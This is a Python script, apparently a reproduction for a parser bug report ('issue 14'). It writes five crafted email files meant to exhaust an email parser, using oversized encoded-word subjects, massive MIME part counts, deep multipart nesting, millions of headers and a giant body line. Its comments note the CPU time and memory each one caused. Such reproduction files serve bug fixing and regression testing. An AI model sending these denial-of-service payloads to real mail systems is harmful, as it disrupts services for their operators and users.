#!/usr/bin/env python3
"""Write the size-attack messages of issue 14 into DIR (all <= 10 MiB):
  subject-words.eml  a 1.2 MB Subject of "=?a?B?x" repeated (quadratic
                     encoded-word joining took 180 s)
  many-parts.eml     ~1,000,000 MIME parts under one Content-Type line
                     (1.4 GB)
  deep-nest.eml      200,000 nested multiparts, "Content-Type :" with a
                     space before the colon (478 MB)
  many-headers.eml   2,000,000 short header lines
  long-line.eml      one 9 MB body line of "=?" and "?=" pieces
Usage: attacks.py DIR"""
import os, sys

d = sys.argv[1]
os.makedirs(d, exist_ok=True)
H = ("From: attacker@example.com\r\nTo: feedback@example.cn\r\n"
     "Date: Tue, 01 Dec 2026 09:00:00 +0800\r\n")


def put(name, data):
    assert len(data) <= 10 * 1024 * 1024, (name, len(data))
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


put("subject-words.eml", (H + "Message-ID: <words@example.com>\r\n"
    "Subject: " + "=?a?B?x" * (1200000 // 7) + "\r\n\r\nbody\r\n").encode())

parts = "--b\r\n\r\nx\r\n" * 900000
put("many-parts.eml", (H + "Message-ID: <parts@example.com>\r\n"
    "Subject: many parts\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    + parts + "--b--\r\n").encode())

n = 200000
nest = "".join('Content-Type :multipart/a;boundary=%x\n\n--%x\n'
               % (i, i) for i in range(n))
put("deep-nest.eml", (H + "Message-ID: <nest@example.com>\r\n"
    "Subject: deep nesting\r\nMIME-Version: 1.0\r\n" + nest
    + "\r\ninner\r\n").encode())

put("many-headers.eml", (H + "Message-ID: <headers@example.com>\r\n"
    "Subject: many headers\r\n" + "X:y\r\n" * 2000000
    + "\r\nbody\r\n").encode())

put("long-line.eml", (H + "Message-ID: <line@example.com>\r\n"
    "Subject: long line\r\n\r\n" + "=?x?=" * 1800000 + "\r\n").encode())
